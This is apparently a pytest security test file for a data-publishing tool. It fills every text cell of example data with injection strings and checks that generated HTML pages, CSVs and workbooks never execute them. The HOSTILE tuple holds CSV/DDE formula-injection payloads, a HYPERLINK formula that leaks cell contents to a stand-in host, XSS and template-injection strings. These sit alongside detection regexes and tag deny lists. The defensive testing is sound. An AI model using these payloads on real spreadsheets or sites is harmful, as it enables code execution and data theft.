"""Hostile text in every text cell of the examples: no page and no spreadsheet executes it, in any written file."""

import csv
import io
import re
import shutil
import zipfile
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from faults.harmed import files
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from merito import Table
from merito.cli import app
from merito.outputs.data_package import LICENCES
from merito.outputs.publication_set import FRAGMENT
from merito.testing import Regulations, installed_regulations
from merito.workspace.config import Workspace, open_workspace
from merito.workspace.ente_config import read_ente
from merito.workspace.files import ANYWHERE, CSV, holds_names, known_tables
from merito.workspace.heads import match_heads
from merito.workspace.problems import Problems
from merito.workspace.raw import UTF8, RawTable, read_csv
from merito.workspace.spreadsheet_safe import as_text, as_written, csv_text

EXAMPLES = Path(__file__).parents[2] / "examples"
HOSTILE = (
    '=HYPERLINK("http://x.invalid/?"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title></style><svg onload=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "a;=1+1;@x",
    'a";=1+1;"',
    "a\n=1+1",
    "javascript:alert(1)",
    "\uff1d1+1",
    "[link](javascript:alert(1)) &lt;b&gt; &amp;",
)
RUNS = re.compile(r'[ "]*(?:[=+@\uff1d\uff0b\uff0d\uff20]|-(?!(?:[0-9][0-9.,]*(?:%|/[0-9]+)?)?[ "]*$))')
NAMES = {
    ("acts", "kind"),
    ("acts", "contents"),
    ("amendments", "table"),
    ("amendments", "column"),
}  # of a layer's declarations
MARKS = ("alert(1)", "cmd|", "HYPERLINK", "7*7")


def invoke(*words: object) -> Result:
    return CliRunner().invoke(app, [str(word) for word in words], catch_exceptions=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All the examples, with hostile text in every text, run together and prepared for the next year."""
    root = tmp_path_factory.mktemp("hostile") / "examples"
    ignored = shutil.ignore_patterns("out", "out-*", "registro.sqlite*", "*.xlsx", "*.ods")
    shutil.copytree(EXAMPLES, root, ignore=ignored)
    texts, regulations = cycle(HOSTILE), installed_regulations()
    for part in open_workspace(root).every():
        spoil(part, regulations, texts)
    ran = invoke("run", root, "--as-of", "2022-06-01", "--jobs", "2")
    assert ran.exit_code == 1, ran.output
    assert "errore del programma" not in ran.output, ran.output
    assert {"bergamo", "brescia", "camera-di-prova", "rocca-alta"} <= {
        path.parts[-3] for path in root.glob("out/*/*/summary.json")
    }
    for part in open_workspace(root).every():
        if part.folders and part.year:
            assert invoke("new-year", part.root, "--from", part.year).exit_code in (0, 1)
    assert invoke("init", root / "nuovo", "--regulation", "brescia").exit_code == 0
    return root


def spoil(part: Workspace, regulations: Regulations, texts: Iterator[str]) -> None:
    tables: Mapping[str, Table] = {}
    for folder in part.folders:
        tables = regulations.stack(read_ente(folder, part).regulation).inputs.tables
        path = folder / "ente.toml"
        text = path.read_text(encoding="utf-8")
        path.write_text(re.sub(r"(?m)^name = .*$", lambda _: f"name = '''{next(texts)} '''", text), encoding="utf-8")
        for path in folder.rglob("*.csv"):
            if not holds_names(path):
                spoil_table(path, tables, texts)
    for path in part.root.glob("*.csv"):
        spoil_table(path, tables, texts)


def spoil_table(path: Path, tables: Mapping[str, Table], texts: Iterator[str]) -> None:
    raw = read_csv(path.stem, path.name, path.read_bytes(), UTF8, Problems())
    assert raw is not None
    shared = raw.heads[0] == "ente"
    rows = [[str(cell) for cell in cells] for _, cells in raw.rows]
    for column in text_columns(raw, tables, shared):
        for row in rows:
            if row[column]:
                row[column] = next(texts)
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerows([raw.heads, *rows])
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")


def text_columns(raw: RawTable, tables: Mapping[str, Table], shared: bool) -> list[int]:
    own = RawTable(
        name=raw.name, file=raw.file, sheet="", heads=raw.heads[shared:], head_row=1, rows=(), uneven=frozenset()
    )
    problems = Problems()
    ((_, table),) = known_tables(iter([own]), tables, ANYWHERE, problems)
    heads = match_heads(own, table, problems)
    assert heads is not None, problems.found
    texts = [one.name for one in table.columns.values() if one.kind == "text" and one.name not in table.key]
    return [heads.index[name] + shared for name in texts if name in heads.index and (table.name, name) not in NAMES]


class Page(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.long
def test_no_page_has_a_tag_or_an_attribute_of_the_data(hostile: Path) -> None:
    pages = list((hostile / "out").rglob("*.html"))
    assert len(pages) > 8
    shown = ""
    for path in pages:
        page = Page()
        page.feed(path.read_text(encoding="utf-8"))
        assert not page.tags & {"script", "img", "iframe", "object", "embed", "form", "base"}
        assert not [name for name, _ in page.attributes if name.startswith("on") or name == "srcdoc"]
        links = {value.strip().casefold() for name, value in page.attributes if name in ("href", "src", "action")}
        piece = path.name == FRAGMENT  # it is pasted into a page, and links to the text of its licence
        links -= {LICENCES["CC-BY-4.0"][0]} if piece else set()
        assert not [link for link in links if link.startswith(("javascript:", "data:", "http")) and link != "data:,"]
        allowed = ("content", "default-src 'none'; style-src 'unsafe-inline'; img-src data:")
        assert piece or allowed in page.attributes
        shown += page.text
    assert all(mark in shown for mark in MARKS)


@pytest.mark.long
def test_no_cell_of_a_csv_is_run_at_whatever_separator_it_is_cut(hostile: Path) -> None:
    written = {name: one for name, one in files(hostile).items() if name.endswith(CSV) and is_written(hostile / name)}
    assert len(written) > 80
    assert {name.split("/")[0] for name in written} >= {"out", "nuovo", "brescia"}
    marked = 0
    for name, content in written.items():
        text = content.decode("utf-8")
        for delimiter in (",", ";", "\t"):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            assert not [cell for row in rows for cell in row if RUNS.match(cell)], (name, delimiter)
        assert not [piece for piece in re.split(r"[;\t\r\n]", text) if RUNS.match(piece)], name
        marked += text.count("'=") + text.count("'+") + text.count("'@")
    assert marked > 100


def is_written(path: Path) -> bool:
    """Whether merito wrote a file: a result, or a table of a year that was prepared."""
    return (
        "out" in path.parts
        or "nuovo" in path.parts
        or (path.parent.name == "2022" and path.parent.parent.parent.name == "enti")
    )


@pytest.mark.long
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(hostile: Path) -> None:
    books = [path for path in hostile.rglob("*.xlsx") if "out" in path.parts]
    assert len(books) > 15
    seen = ""
    for path in books:
        with zipfile.ZipFile(path) as archive:
            names = archive.namelist()
            assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
            for name in names:
                part = archive.read(name)
                assert b"<f>" not in part and b"<hyperlink" not in part and b'Target="http://x' not in part
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                assert not [cell for cell in row if cell.data_type == "f"]
                seen += "".join(cell.value for cell in row if isinstance(cell.value, str))
    assert all(mark in seen for mark in MARKS)


@pytest.mark.long
def test_what_a_new_year_carries_over_is_read_back_as_it_was(hostile: Path) -> None:
    compared = 0
    for path in hostile.rglob("2022/*.csv"):
        before = path.parent.with_name("2021") / path.name
        if not is_written(path) or not before.is_file():
            continue
        old, new = (read_csv(one.stem, one.name, one.read_bytes(), UTF8, Problems()) for one in (before, path))
        assert old and new
        known = {cell for _, row in old.rows for cell in row} | {""}
        found = {cell for _, row in new.rows for cell in row}
        assert found <= known
        compared += len(found)
    assert compared > 50


@given(st.text(alphabet="=+-@,;'\" \t\n\uff1d19.%/aè", max_size=12))
def test_a_cell_that_is_made_safe_is_read_back_and_safe(cell: str) -> None:
    meant = as_written(cell.strip())
    assert as_written(as_text(meant)) == meant
    assert not [piece for piece in re.split(r"[,;\t\r\n]", as_text(meant)) if RUNS.match(piece)]


@pytest.mark.parametrize("number", ["-5", "-1.50", "-1,5", "-12%", "-800/11", "-", "0", "2021-06-30", "100/11", "5-3"])
def test_numbers_stay_numbers(number: str) -> None:
    assert (
        csv_text([["a", number]]) == f'a,"{number}"\n'
        if "," in number
        else csv_text([["a", number]]) == f"a,{number}\n"
    )
